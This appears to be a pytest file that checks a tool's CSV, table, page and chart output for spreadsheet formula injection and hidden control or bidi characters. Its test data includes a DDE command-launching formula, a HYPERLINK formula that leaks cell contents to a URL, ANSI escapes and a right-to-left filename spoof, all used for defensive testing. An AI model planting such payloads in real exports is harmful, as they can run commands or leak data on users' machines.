"""Output that other programs execute: formulas in spreadsheets, control characters everywhere else."""

from __future__ import annotations

import csv
import io
import re

import pytest

from tracewarehouse.cli.output import Output, OutputError
from tracewarehouse.exact_text import INVISIBLE, csv_text, spreadsheet_text
from tracewarehouse.present.pages import _environment
from tracewarehouse.present.plot.charts import Bar, bar_chart
from tracewarehouse.present.render.table import markdown, table
from tracewarehouse.result import Field, from_rows

FORMULAS = [
    *("=1+1", "+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "-5", "+49 1234"),
    *('=HYPERLINK("http://x/?"&A1)', "=1;2", "\uff1d1+1", "\uff0b1", "\uff20x", "=\x1b[31m", "-", "=", "@"),
]
CONTROLS = [
    *("\x1b[31mred", "a\x00b", "a\x07b", "a\x08b", "\x9b31m", "a\x7fb", "\u202egnp.exe", "a\u2066b\u2069"),
    *("a\u200eb", "a\u200fb", "a\u061cb", "a\u2028b", "a\u2029b", "\ufeffa", "\x85a", "\ud800a"),
]
PLAIN = ["plain", "a=b", "a-b", "'quoted", "1e5 x", "é", "void f<int>(a, b)", "{'a': 1}", "  =1+1"]
_FORMULA_START = re.compile(r"[=+\-@\t\r\n\uff1d\uff0b\uff20]")
_CONTROL = re.compile(f"[\x00-\x1f{INVISIBLE}]")


def cells(text: str) -> list[str]:
    return next(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", [*FORMULAS, *CONTROLS])
def test_no_formula_and_no_control_character_with_spreadsheet(payload: str) -> None:
    (cell,) = cells(spreadsheet_text(payload))
    assert not _FORMULA_START.match(cell) and not _CONTROL.search(cell)
    assert cell.startswith("'") == bool(_FORMULA_START.match(payload))


@pytest.mark.parametrize("payload", [*FORMULAS, *CONTROLS])
def test_csv_is_exact_by_default(payload: str) -> None:
    assert cells(csv_text(payload)) == [payload]


def test_numbers_and_plain_texts_stay() -> None:
    for value in (-5, 5, -1.5, None, True):
        assert spreadsheet_text(value) == csv_text(value)
    for text in PLAIN:
        assert spreadsheet_text(text) == csv_text(text)


def test_columns_are_cells_too() -> None:
    result = from_rows([Field("=1+1", "VARCHAR"), Field("n", "BIGINT")], [("@x", -1)])
    assert "".join(result.csv()) == "=1+1,n\n@x,-1\n"
    assert "".join(result.csv(spreadsheet=True)) == "'=1+1,n\n'@x,-1\n"
    with pytest.raises(OutputError, match="--spreadsheet applies to CSV"):
        Output("query", format="md", spreadsheet=True).print_result(result)


@pytest.mark.parametrize("payload", CONTROLS)
def test_control_characters_are_visible_everywhere(payload: str) -> None:
    fields, rows = [Field(payload, "VARCHAR"), Field("other", "VARCHAR")], [(payload, "x")]
    page = _environment().from_string("<p>{{ text }}</p><pre>{{ text }}</pre>").render(text=payload)
    texts = [*table(fields, rows).lines(), *markdown(fields, rows).splitlines(), page]
    for text in texts:
        assert not _CONTROL.search(text), text


def test_charts_show_control_characters() -> None:
    name = "a\u202eb\x1b"
    drawn = bar_chart([Bar(name, 1, "plain", name, name)]).svg(name)
    assert not re.search(f"[\x00-\x08\x0b-\x1f{INVISIBLE}]", drawn) and drawn.count("u202e") == 4
